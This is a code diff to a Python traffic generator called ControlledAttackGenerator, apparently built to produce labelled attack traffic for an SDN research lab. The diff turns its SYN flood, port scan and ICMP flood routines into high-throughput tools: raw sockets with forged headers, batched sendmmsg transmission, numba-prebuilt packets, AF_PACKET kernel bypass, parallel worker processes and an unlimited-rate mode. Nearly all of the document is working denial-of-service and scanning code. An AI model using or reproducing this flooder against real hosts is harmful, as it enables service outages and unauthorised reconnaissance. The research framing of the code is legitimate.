@@ -10,20 +10,389 @@ Features:
 - Ground truth tracking (counts everything sent)
 """
 
+import ctypes
+import ctypes.util
+import errno
+import multiprocessing
+import os
 import socket
 import struct
 import time
 import random
+import select
 import argparse
+import asyncio
 import json
 from datetime import datetime
 
+try:
+    import numpy as np
+except ImportError:
+    # Optional: random header fields come from the random module without numpy
+    np = None
+
+try:
+    from numba import njit
+except ImportError:
+    # Optional JIT: SYN batches are filled in Python without numba
+    njit = None
+
+try:
+    _libc = ctypes.CDLL(ctypes.util.find_library('c') or 'libc.so.6', use_errno=True)
+    _sendmmsg = _libc.sendmmsg
+    _sendmmsg.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]
+    _sendmmsg.restype = ctypes.c_int
+except (OSError, AttributeError):
+    # No sendmmsg(2) (non-Linux libc): fall back to one sendto() per packet
+    _sendmmsg = None
+
+
+def _fold_checksum(s):
+    """Fold a sum of 16-bit words into the final ones' complement checksum"""
+    s = (s >> 16) + (s & 0xffff)
+    s += s >> 16
+    return ~s & 0xffff
+
+
+if njit is not None:
+    # Explicit signature: compiled (or loaded from cache) at import, so no
+    # JIT pause lands inside a paced flood
+    @njit('void(uint8[::1], int64, int64, int64, int64, int64[::1], int64[::1], '
+          'int64[::1], int64, int64)', cache=True, boundscheck=False)
+    def _fill_syn_batch(pool, first, n, pkt_len, l2_len, sports, seqs, ip_ids,
+                        ip_partial, tcp_partial):
+        """
+        Write IP id, source port, sequence and both checksums for pool
+        slots first..first+n into SYN templates already in the pool
+
+        The IP packet starts l2_len bytes into each slot. Both checksums
+        are stored in network byte order.
+        """
+        for i in range(n):
+            off = (first + i) * pkt_len + l2_len
+            sport = sports[i]
+            seq = seqs[i]
+            ip_id = ip_ids[i]
+
+            pool[off + 4] = (ip_id >> 8) & 0xff
+            pool[off + 5] = ip_id & 0xff
+            pool[off + 20] = (sport >> 8) & 0xff
+            pool[off + 21] = sport & 0xff
+            pool[off + 24] = (seq >> 24) & 0xff
+            pool[off + 25] = (seq >> 16) & 0xff
+            pool[off + 26] = (seq >> 8) & 0xff
+            pool[off + 27] = seq & 0xff
+
+            c = ip_partial + ip_id
+            c = (c >> 16) + (c & 0xffff)
+            c += c >> 16
+            ip_csum = ~c & 0xffff
+
+            c = tcp_partial + sport + (seq >> 16) + (seq & 0xffff)
+            c = (c >> 16) + (c & 0xffff)
+            c += c >> 16
+            tcp_csum = ~c & 0xffff
+
+            pool[off + 10] = ip_csum >> 8
+            pool[off + 11] = ip_csum & 0xff
+            pool[off + 36] = tcp_csum >> 8
+            pool[off + 37] = tcp_csum & 0xff
+else:
+    _fill_syn_batch = None
+
+
+def _new_rng():
+    """numpy Generator seeded from the random module, or None without numpy"""
+    if np is None:
+        return None
+    return np.random.default_rng(random.getrandbits(64))
+
+
+def _randints(rng, n, low, high):
+    """List of n random ints in [low, high] (at most 2**32 values), drawn in bulk"""
+    if rng is not None:
+        return rng.integers(low, high + 1, size=n, dtype=np.int64).tolist()
+
+    # Without numpy: one getrandbits() call, read as 32-bit words
+    # (random.randbytes() needs Python 3.9)
+    words = struct.unpack(f'<{n}L', random.getrandbits(32 * n).to_bytes(4 * n, 'little'))
+    span = high - low + 1
+    if span & (span - 1) == 0:
+        mask = span - 1
+        return [low + (w & mask) for w in words]
+    # Modulo bias is below span / 2**32 (about 1e-5 for source ports)
+    return [low + w % span for w in words]
+
+
+def _set_field(array, field, values):
+    """Write one field of every element of a ctypes Structure array (numpy)"""
+    elem_size = ctypes.sizeof(array._type_)
+    dtype = {4: np.uint32, 8: np.uint64}[field.size]
+    view = np.frombuffer(array, dtype=dtype).reshape(len(array), elem_size // field.size)
+    view[:, field.offset // field.size] = values
+
+
+class _IOVec(ctypes.Structure):
+    """struct iovec"""
+    _fields_ = [
+        ('iov_base', ctypes.c_void_p),
+        ('iov_len', ctypes.c_size_t)
+    ]
+
+
+class _MsgHdr(ctypes.Structure):
+    """struct msghdr"""
+    _fields_ = [
+        ('msg_name', ctypes.c_void_p),
+        ('msg_namelen', ctypes.c_uint32),
+        ('msg_iov', ctypes.c_void_p),
+        ('msg_iovlen', ctypes.c_size_t),
+        ('msg_control', ctypes.c_void_p),
+        ('msg_controllen', ctypes.c_size_t),
+        ('msg_flags', ctypes.c_int)
+    ]
+
+
+class _MMsgHdr(ctypes.Structure):
+    """struct mmsghdr"""
+    _fields_ = [
+        ('msg_hdr', _MsgHdr),
+        ('msg_len', ctypes.c_uint)
+    ]
+
+
+class _SendMmsg:
+    """
+    Batched packet transmit with sendmmsg(2)
+
+    Packets are written back-to-back into `pool` (slot i starts at
+    i * pkt_len). send(n, first) then transmits slots first..first+n with
+    one syscall per MAX_BATCH packets instead of n sendto() calls. `dest`
+    is None for a bound AF_PACKET socket, which needs no destination
+    address. A caller-owned `pool` (at least pkt_len * slots bytes) is
+    used in place of a new one.
+
+    Sends never block: they pass MSG_DONTWAIT, and when the socket buffer
+    is full the sender waits for EPOLLOUT and retries, so the kernel
+    queue is refilled as soon as it has room.
+    """
+
+    # Largest batch the kernel takes in one sendmmsg() call (UIO_MAXIOV)
+    MAX_BATCH = 1024
+
+    def __init__(self, sock, dest, pkt_len, slots=MAX_BATCH, pool=None):
+        self.sock = sock
+        self.dest = dest
+        self.pkt_len = pkt_len
+        self.slots = slots
+        if pool is None:
+            pool = bytearray(pkt_len * slots)
+        elif len(pool) < pkt_len * slots:
+            raise ValueError("pool too small for slots")
+        self.pool = pool
+
+        if _sendmmsg is None:
+            return
+
+        # sockaddr_in for the destination (port is unused by raw sockets)
+        if dest is not None:
+            self._addr = ctypes.create_string_buffer(
+                struct.pack('=HH4s8x', socket.AF_INET, 0, socket.inet_aton(dest[0]))
+            )
+            name, namelen = ctypes.addressof(self._addr), ctypes.sizeof(self._addr)
+        else:
+            name, namelen = None, 0
+
+        # iovec/mmsghdr arrays pointing into the pool, set up once
+        self._pool_buf = (ctypes.c_char * len(self.pool)).from_buffer(self.pool)
+        self._iov = (_IOVec * slots)()
+        self._msgs = (_MMsgHdr * slots)()
+        pool_addr = ctypes.addressof(self._pool_buf)
+        iov_addr = ctypes.addressof(self._iov)
+        iov_size = ctypes.sizeof(_IOVec)
+
+        if np is not None:
+            # Whole-array writes; prebuilt pools can hold many slots
+            index = np.arange(slots, dtype=np.uint64)
+            _set_field(self._iov, _IOVec.iov_base, pool_addr + index * pkt_len)
+            _set_field(self._iov, _IOVec.iov_len, pkt_len)
+            _set_field(self._msgs, _MsgHdr.msg_name, name or 0)
+            _set_field(self._msgs, _MsgHdr.msg_namelen, namelen)
+            _set_field(self._msgs, _MsgHdr.msg_iov, iov_addr + index * iov_size)
+            _set_field(self._msgs, _MsgHdr.msg_iovlen, 1)
+            return
+
+        for i in range(slots):
+            self._iov[i].iov_base = pool_addr + i * pkt_len
+            self._iov[i].iov_len = pkt_len
+            hdr = self._msgs[i].msg_hdr
+            hdr.msg_name = name
+            hdr.msg_namelen = namelen
+            hdr.msg_iov = iov_addr + i * iov_size
+            hdr.msg_iovlen = 1
+
+    def _wait_writable(self, ep):
+        """
+        Wait (up to 1 ms) for EPOLLOUT on the socket
+
+        Returns:
+            select.epoll: `ep`, or a new epoll instance when ep is None
+        """
+        if ep is None:
+            ep = select.epoll()
+            ep.register(self.sock.fileno(), select.EPOLLOUT)
+        ep.poll(0.001)
+        return ep
+
+    def fill(self, template):
+        """Copy template into every slot of the pool"""
+        pkt_len = self.pkt_len
+        if np is not None:
+            slots = np.frombuffer(self.pool, dtype=np.uint8)[:self.slots * pkt_len]
+            slots.reshape(self.slots, pkt_len)[:] = np.frombuffer(bytes(template), dtype=np.uint8)
+            return
+        pool = self.pool
+        for i in range(self.slots):
+            pool[i * pkt_len:(i + 1) * pkt_len] = template
+
+    def send(self, count, first=0):
+        """
+        Send `count` packets of the pool, starting at slot `first`
+
+        Returns:
+            tuple: (packets_sent, packets_failed)
+        """
+        if _sendmmsg is None:
+            return self._send_each(count, first)
+
+        fd = self.sock.fileno()
+        msgs_addr = ctypes.addressof(self._msgs)
+        msg_size = ctypes.sizeof(_MMsgHdr)
+        sent = 0
+        failed = 0
+        i = first
+        end = first + count
+        ep = None
+
+        while i < end:
+            n = _sendmmsg(fd, msgs_addr + i * msg_size, min(end - i, self.MAX_BATCH),
+                          socket.MSG_DONTWAIT)
+            if n < 0:
+                err = ctypes.get_errno()
+                if err == errno.EINTR:
+                    continue
+                if err == errno.EAGAIN:
+                    ep = self._wait_writable(ep)
+                    continue
+                # The packet at i was rejected; skip it like a failed sendto()
+                failed += 1
+                i += 1
+            else:
+                sent += n
+                i += n
+
+        if ep is not None:
+            ep.close()
+        return sent, failed
+
+    def _send_each(self, count, first=0):
+        """Fallback transmit: one sendto() per packet"""
+        view = memoryview(self.pool)
+        pkt_len = self.pkt_len
+        sent = 0
+        failed = 0
+        i = first
+        end = first + count
+        ep = None
+
+        while i < end:
+            try:
+                if self.dest is None:
+                    self.sock.send(view[i * pkt_len:(i + 1) * pkt_len], socket.MSG_DONTWAIT)
+                else:
+                    self.sock.sendto(view[i * pkt_len:(i + 1) * pkt_len], socket.MSG_DONTWAIT,
+                                     self.dest)
+                sent += 1
+            except BlockingIOError:
+                ep = self._wait_writable(ep)
+                continue
+            except OSError:
+                failed += 1
+            i += 1
+
+        if ep is not None:
+            ep.close()
+        return sent, failed
+
+
+class _TokenBucket:
+    """
+    Batch rate limiting against perf_counter_ns deadlines
+
+    Instead of sleeping after every packet, the sender calls wait(n) once
+    per batch. Deadlines are absolute (start + packets * 1e9 / rate), so
+    sleep overshoot in one batch is absorbed by the next instead of
+    accumulating.
+    """
+
+    def __init__(self, rate, max_batch):
+        self.rate = rate
+        # Keep each batch to ~10 ms of traffic so pacing stays smooth
+        if rate > 0:
+            self.batch = min(max_batch, max(1, rate // 100))
+        else:
+            self.batch = max_batch
+        self._start = time.perf_counter_ns()
+        self._packets = 0
+
+    def restart(self):
+        """Re-anchor the schedule at now (after a pause that sent nothing)"""
+        self._start = time.perf_counter_ns()
+        self._packets = 0
+
+    def wait(self, n):
+        """Account for n more packets and sleep until they are due"""
+        if self.rate <= 0:
+            return
+        self._packets += n
+        deadline = self._start + self._packets * 1_000_000_000 // self.rate
+        now = time.perf_counter_ns()
+        if now < deadline:
+            time.sleep((deadline - now) / 1e9)
+
+
 class ControlledAttackGenerator:
     """Generate precise attack traffic for research validation"""
 
-    def __init__(self, target_ip, source_ip="10.0.0.11"):
+    # Header layouts, compiled once
+    _TCP_HEADER = struct.Struct('!HHLLBBHHH')
+    _IP_HEADER = struct.Struct('!BBHHHBBH4s4s')
+    _PSEUDO_HEADER = struct.Struct('!4s4sBBH')
+    _ICMP_HEADER = struct.Struct('!BBHHH')
+
+    # Victim MAC in the SDN topology (three_tier_sdn.py)
+    DEFAULT_DST_MAC = '00:00:00:03:03:64'
+    ETH_P_IP = 0x0800
+
+    # Largest packet sent from the TX pool: Ethernet + IP + 64-byte ICMP echo
+    MAX_PKT_LEN = 14 + 20 + 64
+
+    # SYN packets built ahead of sending per segment when numba is available
+    # (about 120 bytes each with their sendmmsg headers, ~16 MB in all)
+    PREBUILD_PACKETS = 1 << 17
+
+    def __init__(self, target_ip, source_ip="10.0.0.11", use_af_packet=False,
+                 iface=None, dst_mac=DEFAULT_DST_MAC):
+        if use_af_packet and not iface:
+            raise ValueError("use_af_packet requires an interface")
+
         self.target_ip = target_ip
         self.source_ip = source_ip
+        # With AF_PACKET, raw attacks send complete Ethernet frames on
+        # `iface` and skip the kernel IP output path
+        self.use_af_packet = use_af_packet
+        self.iface = iface
+        self.dst_mac = dst_mac
         self.stats = {
             'target': target_ip,
             'source': source_ip,
@@ -31,16 +400,86 @@ class ControlledAttackGenerator:
             'attacks': {}
         }
 
+        # Scratch buffers the header builders pack into
+        self._src_addr = socket.inet_aton(source_ip)
+        self._dst_addr = socket.inet_aton(target_ip)
+        # TCP: 12-byte pseudo header (constant) followed by the 20-byte header
+        self._tcp_buf = bytearray(32)
+        self._tcp_view = memoryview(self._tcp_buf)
+        self._PSEUDO_HEADER.pack_into(self._tcp_buf, 0, self._src_addr, self._dst_addr,
+                                      0, socket.IPPROTO_TCP, 20)
+        self._ip_buf = bytearray(20)
+        # ICMP: 8-byte header followed by 56 bytes of data like standard ping
+        self._icmp_buf = bytearray(8) + b'A' * 56
+
+        # Raw sockets (by protocol) and the sendmmsg buffer, shared by all
+        # packet attacks so nothing is set up again between them
+        self._tx_sockets = {}
+        self._tx_pool = bytearray(_SendMmsg.MAX_BATCH * self.MAX_PKT_LEN)
+
+    def _get_tx_socket(self, proto):
+        """
+        Raw socket for proto, opened on first use and then reused
+
+        Returns:
+            tuple: (socket, destination address or None, link-layer header)
+        """
+        # One AF_PACKET socket carries every protocol
+        key = 'link' if self.use_af_packet else proto
+        tx = self._tx_sockets.get(key)
+        if tx is None:
+            tx = self._tx_sockets[key] = self._open_tx_socket(proto)
+        return tx
+
+    def close(self):
+        """Close the cached raw sockets"""
+        for s, _, _ in self._tx_sockets.values():
+            s.close()
+        self._tx_sockets.clear()
+
+    def _open_tx_socket(self, proto):
+        """
+        Open the raw socket a packet attack sends on
+
+        Args:
+            proto: IPPROTO_TCP (packets carry their own IP header) or
+                IPPROTO_ICMP (the kernel adds the IP header)
+
+        Returns:
+            tuple: (socket, destination address or None, link-layer header)
+        """
+        if self.use_af_packet:
+            # Protocol 0: transmit only, so the kernel queues no inbound
+            # frames on a socket that is never read
+            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+            try:
+                s.bind((self.iface, 0))
+                src_mac = s.getsockname()[4]
+            except OSError:
+                s.close()
+                raise
+            eth_header = struct.pack('!6s6sH', bytes.fromhex(self.dst_mac.replace(':', '')),
+                                     src_mac, self.ETH_P_IP)
+            return s, None, eth_header
+
+        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
+        if proto == socket.IPPROTO_TCP:
+            s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+        return s, (self.target_ip, 0), b''
+
     def _checksum(self, data):
         """Calculate IP checksum"""
-        s = 0
-        for i in range(0, len(data), 2):
-            if i + 1 < len(data):
-                s += (data[i] << 8) + data[i + 1]
-            else:
-                s += data[i]
-        s = (s >> 16) + (s & 0xffff)
-        s += s >> 16
+        # 2**16 == 1 (mod 0xffff), so the ones' complement sum of the 16-bit
+        # words is the whole buffer read as one big integer, mod 0xffff
+        if len(data) & 1:
+            # A trailing odd byte is added as the low byte of a word
+            x = int.from_bytes(data[:-1], 'big') + data[-1]
+        else:
+            x = int.from_bytes(data, 'big')
+        s = x % 0xffff
+        if s == 0 and x:
+            # A non-zero sum folds to 0xffff, never to 0
+            s = 0xffff
         return ~s & 0xffff
 
     def syn_flood(self, port=80, count=100000, rate=10000):
@@ -50,7 +489,7 @@ class ControlledAttackGenerator:
         Args:
             port: Target port
             count: Exact number of SYN packets to send
-            rate: Packets per second (for timing)
+            rate: Packets per second (0 = unlimited)
 
         Returns:
             dict: Statistics including exact count sent
@@ -60,8 +499,11 @@ class ControlledAttackGenerator:
         print(f"{'='*60}")
         print(f"Target: {self.target_ip}:{port}")
         print(f"Packets: {count:,}")
-        print(f"Rate: {rate:,} packets/sec")
-        print(f"Duration: ~{count/rate:.1f} seconds")
+        if rate > 0:
+            print(f"Rate: {rate:,} packets/sec")
+            print(f"Duration: ~{count/rate:.1f} seconds")
+        else:
+            print("Rate: unlimited")
         print("")
 
         start_time = time.time()
@@ -69,45 +511,97 @@ class ControlledAttackGenerator:
         packets_failed = 0
 
         try:
-            # Create raw socket
-            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
-            s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+            print("Sending SYN packets...")
+            packets_sent, packets_failed = self._send_syn_batches(port, count, rate)
 
-            # Calculate inter-packet delay for rate limiting
-            delay = 1.0 / rate if rate > 0 else 0
+        except PermissionError:
+            print("ERROR: Raw sockets require root privileges")
+            print("Please run with sudo")
+            return None
+        except Exception as e:
+            print(f"ERROR: {e}")
+            return None
 
-            print("Sending SYN packets...")
-            last_report = time.time()
+        elapsed = time.time() - start_time
+        actual_rate = packets_sent / elapsed if elapsed > 0 else 0
 
-            for i in range(count):
-                # Random source port
-                source_port = random.randint(10000, 65535)
+        print(f"\n  Sent: {packets_sent:,} / {count:,} (100.0%)")
+        print("")
+        print(f"SYN flood completed")
+        print(f"  Packets sent: {packets_sent:,}")
+        print(f"  Packets failed: {packets_failed:,}")
+        print(f"  Duration: {elapsed:.2f} seconds")
+        print(f"  Actual rate: {actual_rate:,.0f} packets/sec")
+        print("")
 
-                # Build TCP header
-                tcp_header = self._build_tcp_header(source_port, port, syn=True)
+        self.stats['attacks']['syn_flood'] = {
+            'port': port,
+            'requested_count': count,
+            'packets_sent': packets_sent,
+            'packets_failed': packets_failed,
+            'duration': elapsed,
+            'target_rate': rate,
+            'actual_rate': actual_rate,
+            'attack_type': 'SYN Flood'
+        }
 
-                # Build IP header
-                ip_header = self._build_ip_header(len(tcp_header), socket.IPPROTO_TCP)
+        return self.stats['attacks']['syn_flood']
 
-                # Send packet
-                packet = ip_header + tcp_header
-                try:
-                    s.sendto(packet, (self.target_ip, 0))
-                    packets_sent += 1
-                except:
-                    packets_failed += 1
+    def syn_flood_parallel(self, port=80, count=100000, rate=10000, workers=None):
+        """
+        Controlled SYN flood split across worker processes
 
-                # Rate limiting
-                if delay > 0:
-                    time.sleep(delay)
+        Each worker owns its own raw socket and sends an equal share of
+        the packets and rate from a disjoint source-port range, so the
+        flood is no longer bound to one interpreter.
 
-                # Progress reporting every second
-                if time.time() - last_report >= 1.0:
-                    print(f"  Sent: {packets_sent:,} / {count:,} ({100*packets_sent/count:.1f}%)", end='\r')
-                    last_report = time.time()
+        Args:
+            port: Target port
+            count: Exact number of SYN packets to send (total)
+            rate: Packets per second (total, 0 = unlimited)
+            workers: Number of worker processes (default: one per CPU)
 
-            s.close()
+        Returns:
+            dict: Statistics including exact count sent
+        """
+        workers = max(1, min(workers or os.cpu_count() or 1, count or 1))
+        if rate > 0:
+            # A worker with a zero share of the rate would run unlimited
+            workers = min(workers, rate)
 
+        print(f"\n{'='*60}")
+        print("CONTROLLED SYN FLOOD ATTACK (PARALLEL)")
+        print(f"{'='*60}")
+        print(f"Target: {self.target_ip}:{port}")
+        print(f"Packets: {count:,}")
+        if rate > 0:
+            print(f"Rate: {rate:,} packets/sec")
+            print(f"Duration: ~{count/rate:.1f} seconds")
+        else:
+            print("Rate: unlimited")
+        print(f"Workers: {workers}")
+        print("")
+
+        # Split count and rate as evenly as possible, and give each worker
+        # its own slice of the 10000-65535 source-port range
+        span = (65536 - 10000) // workers
+        jobs = []
+        for worker_id in range(workers):
+            sub_count = count // workers + (1 if worker_id < count % workers else 0)
+            sub_rate = rate // workers + (1 if worker_id < rate % workers else 0)
+            sport_lo = 10000 + worker_id * span
+            jobs.append((worker_id, sub_count, sub_rate, port,
+                         (sport_lo, sport_lo + span - 1),
+                         (self.target_ip, self.source_ip, self.use_af_packet,
+                          self.iface, self.dst_mac)))
+
+        start_time = time.time()
+
+        print("Sending SYN packets...")
+
+        try:
+            with multiprocessing.Pool(workers) as pool:
+                results = pool.starmap(_syn_flood_worker, jobs)
         except PermissionError:
             print("ERROR: Raw sockets require root privileges")
             print("Please run with sudo")
@@ -117,9 +611,10 @@ class ControlledAttackGenerator:
             return None
 
         elapsed = time.time() - start_time
+        packets_sent = sum(sent for sent, _ in results)
+        packets_failed = sum(failed for _, failed in results)
         actual_rate = packets_sent / elapsed if elapsed > 0 else 0
 
-        print(f"\n  Sent: {packets_sent:,} / {count:,} (100.0%)")
         print("")
         print(f"SYN flood completed")
         print(f"  Packets sent: {packets_sent:,}")
@@ -136,11 +631,117 @@ class ControlledAttackGenerator:
             'duration': elapsed,
             'target_rate': rate,
             'actual_rate': actual_rate,
+            'workers': workers,
             'attack_type': 'SYN Flood'
         }
 
         return self.stats['attacks']['syn_flood']
 
+    def _send_syn_batches(self, port, count, rate, sport_range=(10000, 65535), report=True):
+        """
+        Send SYN packets on the shared raw TCP socket
+
+        Args:
+            port: Target port
+            count: Exact number of SYN packets to send
+            rate: Packets per second (0 = unlimited)
+            sport_range: Inclusive (low, high) range for random source ports
+            report: Print progress every second
+
+        Returns:
+            tuple: (packets_sent, packets_failed)
+        """
+        s, dest, l2 = self._get_tx_socket(socket.IPPROTO_TCP)
+        sport_lo, sport_hi = sport_range
+        packets_sent = 0
+        packets_failed = 0
+
+        # 40-byte IP+TCP SYN packets (after any link-layer header), sent in
+        # batches with sendmmsg()
+        syn_template, ip_partial, tcp_partial = self._prebuild_syn_template(port)
+        template = l2 + syn_template
+        l2_len = len(l2)
+        pkt_len = len(template)
+
+        # With numba, whole segments of packets are built up front and the
+        # send loop only streams them; otherwise each batch is filled in
+        # Python in the shared TX pool
+        prebuild = _fill_syn_batch is not None
+        if prebuild:
+            tx = _SendMmsg(s, dest, pkt_len, max(1, min(count, self.PREBUILD_PACKETS)))
+            pool_array = np.frombuffer(tx.pool, dtype=np.uint8)
+        else:
+            tx = _SendMmsg(s, dest, pkt_len, pool=self._tx_pool)
+
+        # Fill every pool slot with the template once; each packet then
+        # only rewrites its IP id, source port, sequence and checksums
+        tx.fill(template)
+        pool = tx.pool
+        pack_into = struct.pack_into
+        rng = _new_rng()
+
+        bucket = _TokenBucket(rate, _SendMmsg.MAX_BATCH)
+        batch = bucket.batch
+        segment = tx.slots if prebuild else batch
+
+        # Progress is checked once per batch against a monotonic deadline
+        progress = f"  Sent: {{:,}} / {count:,} ({{:.1%}})"
+        clock = time.perf_counter_ns
+        next_report = clock() + 1_000_000_000
+
+        remaining = count
+        while remaining > 0:
+            seg = min(segment, remaining)
+            remaining -= seg
+
+            if prebuild:
+                _fill_syn_batch(pool_array, 0, seg, pkt_len, l2_len,
+                                rng.integers(sport_lo, sport_hi + 1, size=seg),
+                                rng.integers(0, 1 << 32, size=seg),
+                                rng.integers(0, 65536, size=seg),
+                                ip_partial, tcp_partial)
+                # Building the segment sent nothing; keep it off the
+                # schedule so the next batches are not sent in a burst
+                bucket.restart()
+            else:
+                # Random source ports, sequence numbers and IP ids for the batch
+                sports = _randints(rng, seg, sport_lo, sport_hi)
+                seqs = _randints(rng, seg, 0, 0xffffffff)
+                ip_ids = _randints(rng, seg, 0, 65535)
+
+                for i in range(seg):
+                    source_port = sports[i]
+                    seq = seqs[i]
+                    ip_id = ip_ids[i]
+
+                    offset = i * pkt_len + l2_len
+                    pack_into('!H', pool, offset + 4, ip_id)
+                    pack_into('!H', pool, offset + 10, _fold_checksum(ip_partial + ip_id))
+                    pack_into('!H', pool, offset + 20, source_port)
+                    pack_into('!L', pool, offset + 24, seq)
+                    pack_into('!H', pool, offset + 36, _fold_checksum(
+                        tcp_partial + source_port + (seq >> 16) + (seq & 0xffff)))
+
+            for first in range(0, seg, batch):
+                n = min(batch, seg - first)
+
+                # Send the whole batch in one syscall
+                sent, failed = tx.send(n, first)
+                packets_sent += sent
+                packets_failed += failed
+
+                # Rate limiting (once per batch)
+                bucket.wait(n)
+
+                # Progress reporting every second
+                if report:
+                    now = clock()
+                    if now >= next_report:
+                        print(progress.format(packets_sent, packets_sent / count), end='\r')
+                        next_report = now + 1_000_000_000
+
+        return packets_sent, packets_failed
+
     def port_scan(self, start_port=1, end_port=1000, rate=1000):
         """
         Controlled port scan
@@ -148,7 +749,7 @@ class ControlledAttackGenerator:
         Args:
             start_port: First port to scan
             end_port: Last port to scan
-            rate: Probes per second
+            rate: Probes per second (0 = unlimited)
 
         Returns:
             dict: Statistics including exact ports scanned
@@ -160,8 +761,11 @@ class ControlledAttackGenerator:
         print(f"{'='*60}")
         print(f"Target: {self.target_ip}")
         print(f"Port range: {start_port}-{end_port} ({port_count:,} ports)")
-        print(f"Rate: {rate:,} probes/sec")
-        print(f"Duration: ~{port_count/rate:.1f} seconds")
+        if rate > 0:
+            print(f"Rate: {rate:,} probes/sec")
+            print(f"Duration: ~{port_count/rate:.1f} seconds")
+        else:
+            print("Rate: unlimited")
         print("")
 
         start_time = time.time()
@@ -169,41 +773,61 @@ class ControlledAttackGenerator:
         packets_failed = 0
 
         try:
-            # Create raw socket
-            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
-            s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
-
-            # Calculate inter-packet delay
-            delay = 1.0 / rate if rate > 0 else 0
+            # Shared raw socket
+            s, dest, l2 = self._get_tx_socket(socket.IPPROTO_TCP)
+
+            # SYN template with the destination port left as a variable field
+            syn_template, ip_partial, tcp_partial = self._prebuild_syn_template(0)
+            template = l2 + syn_template
+            l2_len = len(l2)
+            pkt_len = len(template)
+            tx = _SendMmsg(s, dest, pkt_len, pool=self._tx_pool)
+            tx.fill(template)
+            pool = tx.pool
+            pack_into = struct.pack_into
+            rng = _new_rng()
+
+            bucket = _TokenBucket(rate, tx.slots)
+            batch = bucket.batch
 
             print("Scanning ports...")
-            last_report = time.time()
-
-            for port in range(start_port, end_port + 1):
-                # Random source port
-                source_port = random.randint(10000, 65535)
-
-                # Build SYN packet
-                tcp_header = self._build_tcp_header(source_port, port, syn=True)
-                ip_header = self._build_ip_header(len(tcp_header), socket.IPPROTO_TCP)
-
-                packet = ip_header + tcp_header
-                try:
-                    s.sendto(packet, (self.target_ip, 0))
-                    packets_sent += 1
-                except:
-                    packets_failed += 1
-
-                # Rate limiting
-                if delay > 0:
-                    time.sleep(delay)
+            progress = f"  Scanned: {{:,}} / {port_count:,} ports ({{:.1%}})"
+            clock = time.perf_counter_ns
+            next_report = clock() + 1_000_000_000
+
+            for first in range(start_port, end_port + 1, batch):
+                ports = range(first, min(first + batch, end_port + 1))
+
+                # Random source ports, sequence numbers and IP ids for the batch
+                sports = _randints(rng, len(ports), 10000, 65535)
+                seqs = _randints(rng, len(ports), 0, 0xffffffff)
+                ip_ids = _randints(rng, len(ports), 0, 65535)
+
+                for i, port in enumerate(ports):
+                    source_port = sports[i]
+                    seq = seqs[i]
+                    ip_id = ip_ids[i]
+
+                    # Build SYN packet
+                    offset = i * pkt_len + l2_len
+                    pack_into('!H', pool, offset + 4, ip_id)
+                    pack_into('!H', pool, offset + 10, _fold_checksum(ip_partial + ip_id))
+                    pack_into('!HHL', pool, offset + 20, source_port, port, seq)
+                    pack_into('!H', pool, offset + 36, _fold_checksum(
+                        tcp_partial + source_port + port + (seq >> 16) + (seq & 0xffff)))
+
+                sent, failed = tx.send(len(ports))
+                packets_sent += sent
+                packets_failed += failed
+
+                # Rate limiting (once per batch)
+                bucket.wait(len(ports))
 
                 # Progress reporting
-                if time.time() - last_report >= 1.0:
-                    print(f"  Scanned: {packets_sent:,} / {port_count:,} ports ({100*packets_sent/port_count:.1f}%)", end='\r')
-                    last_report = time.time()
-
-            s.close()
+                now = clock()
+                if now >= next_report:
+                    print(progress.format(packets_sent, packets_sent / port_count), end='\r')
+                    next_report = now + 1_000_000_000
 
         except PermissionError:
             print("ERROR: Raw sockets require root privileges")
@@ -244,7 +868,7 @@ class ControlledAttackGenerator:
 
         Args:
             count: Exact number of ICMP packets to send
-            rate: Packets per second
+            rate: Packets per second (0 = unlimited)
 
         Returns:
             dict: Statistics
@@ -254,8 +878,11 @@ class ControlledAttackGenerator:
         print(f"{'='*60}")
         print(f"Target: {self.target_ip}")
         print(f"Packets: {count:,}")
-        print(f"Rate: {rate:,} packets/sec")
-        print(f"Duration: ~{count/rate:.1f} seconds")
+        if rate > 0:
+            print(f"Rate: {rate:,} packets/sec")
+            print(f"Duration: ~{count/rate:.1f} seconds")
+        else:
+            print("Rate: unlimited")
         print("")
 
         start_time = time.time()
@@ -263,35 +890,56 @@ class ControlledAttackGenerator:
         packets_failed = 0
 
         try:
-            # Create raw ICMP socket
-            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
-
-            # Calculate delay
-            delay = 1.0 / rate if rate > 0 else 0
+            # Shared raw ICMP socket
+            s, dest, l2 = self._get_tx_socket(socket.IPPROTO_ICMP)
+
+            # Echo request template with id/sequence/checksum left as zero.
+            # Only AF_PACKET frames need an IP header of our own.
+            icmp_template, icmp_partial = self._prebuild_icmp_template()
+            if l2:
+                template = l2 + self._build_ip_header(len(icmp_template), socket.IPPROTO_ICMP) + icmp_template
+            else:
+                template = icmp_template
+            icmp_offset = len(template) - len(icmp_template)
+            pkt_len = len(template)
+            tx = _SendMmsg(s, dest, pkt_len, pool=self._tx_pool)
+            tx.fill(template)
+            pool = tx.pool
+            pack_into = struct.pack_into
+            rng = _new_rng()
+
+            bucket = _TokenBucket(rate, tx.slots)
+            batch = bucket.batch
 
             print("Sending ICMP packets...")
-            last_report = time.time()
+            progress = f"  Sent: {{:,}} / {count:,} ({{:.1%}})"
+            clock = time.perf_counter_ns
+            next_report = clock() + 1_000_000_000
 
-            for i in range(count):
-                # Build ICMP echo request
-                icmp_packet = self._build_icmp_packet(i)
+            for first in range(0, count, batch):
+                n = min(batch, count - first)
+                packet_ids = _randints(rng, n, 0, 65535)
 
-                try:
-                    s.sendto(icmp_packet, (self.target_ip, 0))
-                    packets_sent += 1
-                except:
-                    packets_failed += 1
+                for i in range(n):
+                    # Build ICMP echo request (sequence wraps at 16 bits)
+                    packet_id = packet_ids[i]
+                    sequence = (first + i) & 0xffff
+                    pack_into('!HHH', pool, i * pkt_len + icmp_offset + 2,
+                              _fold_checksum(icmp_partial + packet_id + sequence),
+                              packet_id, sequence)
 
-                # Rate limiting
-                if delay > 0:
-                    time.sleep(delay)
+                sent, failed = tx.send(n)
+                packets_sent += sent
+                packets_failed += failed
